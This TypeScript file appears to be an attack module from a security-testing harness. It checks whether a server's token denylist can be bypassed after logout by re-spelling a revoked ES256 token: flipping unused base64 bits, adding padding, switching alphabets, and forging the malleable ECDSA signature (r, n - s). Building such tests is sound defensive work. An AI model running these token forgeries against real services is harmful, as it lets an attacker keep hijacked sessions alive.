import type { Attack, Judgement } from '../../kinds/attack.ts';
import { type Compact, readCompact } from '../../kit/tokens/compact-token.ts';
import type { ForgedToken } from '../../kit/tokens/forged-token.ts';
import { accessTokenOf, withAccessToken } from '../../kit/tokens/presented-token.ts';

type Seen = {
  readonly logoutDone: boolean;
  readonly genuineAfter: boolean;
  readonly spellings: readonly {
    readonly mutation: string;
    /** Whether it was good before the logout, and after it. */
    readonly before: boolean;
    readonly after: boolean;
  }[];
};

export default {
  kind: 'attack',
  id: 'denylist-malleability',
  title: 'A revoked token in another spelling',
  question: 'Is a token that was taken back also refused when it is spelled another way?',
  goal: 'Keep acting as the victim with a token whose revocation is noted under its text.',
  precondition: 'copy',
  severity: 'high',
  references: ['CWE-613', 'CWE-180', 'RFC 4648 §3.5', 'RFC 7515 §2', 'ASVS 7.4.1'],
  steps: [
    'The server signs with ES256 and notes what was revoked.',
    'The thief copies a token and writes it in other ways that verify alike: other unused bits in the last character, padding, the other base64 alphabet, and the second signature (r, n - s) that ECDSA has for every first.',
    'They note which of them are good; the victim logs out; they ask with each again who they are.',
  ],
  controls: ['denylist-by-raw-token'],
  needs: { steps: ['logout'], settings: { algorithm: 'ES256' } },
  appliesTo: ({ credential, revocation }) =>
    credential !== 'self-contained'
      ? 'the credential is a reference, looked up as it stands'
      : revocation === 'immediate' || 'nothing is revoked before it expires',
  expected: () => 'blocked',

  async attempt(stage) {
    const { victim, target } = stage;
    const held = await stage.signIn(victim);
    const speaks = async (token: string) => (await stage.whoAmI(withAccessToken(held, token))) === victim.id;
    const spelled = [];
    for (const { mutation, token } of spellings(accessTokenOf(held))) {
      spelled.push({ mutation, token, before: await speaks(token) });
    }
    const logout = await stage.perform('logout', { as: held });
    const after = [];
    for (const { mutation, token, before } of spelled) after.push({ mutation, before, after: await speaks(token) });
    return {
      logoutDone: target.protocol.steps.logout?.ok.includes(logout.status) ?? false,
      genuineAfter: await speaks(accessTokenOf(held)),
      spellings: after,
    };
  },

  judge({ logoutDone, genuineAfter, spellings }): Judgement {
    if (!logoutDone) return { outcome: 'inconclusive', because: 'the logout was refused' };
    const good = spellings.filter(({ before }) => before);
    const left = spellings.filter(({ after }) => after);
    const counts = { tries: spellings.length + 1, successes: left.length + (genuineAfter ? 1 : 0) };
    if (genuineAfter)
      return { ...counts, outcome: 'succeeded', because: 'the token itself was still good after the logout' };
    if (left.length > 0)
      return {
        ...counts,
        outcome: 'succeeded',
        because: `${left.length} other spellings of the revoked token were still good (first: ${left[0]?.mutation})`,
      };
    return {
      ...counts,
      outcome: 'blocked',
      because: `the token and its ${spellings.length} other spellings, of which ${good.length} had been good, were refused after the logout`,
    };
  },
} satisfies Attack<Seen>;

/** Order of P-256 (FIPS 186-4 §D.1.2.3). */
const order = 0xffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551n;
const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
/** 64 bytes fill 85 characters and 2 bits of the next. */
const unusedBits = 4;

function spellings(token: string): ForgedToken[] {
  const { signature } = readCompact(token);
  const signed = token.slice(0, token.lastIndexOf('.') + 1);
  const last = alphabet.indexOf(signature.slice(-1));
  const base = last - (last % 2 ** unusedBits);
  const others = Array.from({ length: 2 ** unusedBits }, (_, bits) => base + bits).filter((at) => at !== last);
  return [
    ...others.map((at) => ({
      mutation: `unused bits ${(at - base).toString(2).padStart(unusedBits, '0')}`,
      token: signed + signature.slice(0, -1) + alphabet[at],
    })),
    { mutation: 'one padding character', token: `${token}=` },
    { mutation: 'two padding characters', token: `${token}==` },
    { mutation: 'the other base64 alphabet', token: signed + signature.replaceAll('-', '+').replaceAll('_', '/') },
    { mutation: 'the second signature (r, n - s)', token: signed + secondSignature(signature) },
  ].filter((spelling) => spelling.token !== token);
}

function secondSignature(signature: Compact['signature']): string {
  const bytes = Buffer.from(signature, 'base64url');
  const s = BigInt(`0x${bytes.subarray(32).toString('hex')}`);
  const other = (order - s).toString(16).padStart(64, '0');
  return Buffer.concat([bytes.subarray(0, 32), Buffer.from(other, 'hex')]).toString('base64url');
}
